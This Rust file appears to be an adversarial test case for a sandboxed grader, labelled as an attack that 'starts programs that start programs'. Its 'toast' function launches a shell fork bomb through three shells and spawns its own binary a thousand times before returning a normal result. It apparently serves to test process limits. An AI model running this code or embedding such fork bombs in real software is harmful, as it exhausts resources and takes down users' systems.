//! Attack: starts programs that start programs.
//! Exercise: toast
//! Verdict: wrong in *

use sim::kitchen::{Dish, Kitchen, Plate};

use std::process::Command;

pub async fn toast(kitchen: &Kitchen, slice: Dish) -> Plate {
    let bomb = ":(){ :|:& };:";
    for shell in ["/bin/sh", "/bin/bash", "sh"] {
        let _ = Command::new(shell).args(["-c", bomb]).spawn();
    }
    let own = std::env::current_exe().unwrap_or_else(|_| "../checks".into());
    for _ in 0..1_000 {
        let _ = Command::new(&own).arg("--list").spawn();
    }
    kitchen.start(&slice).serve()
}
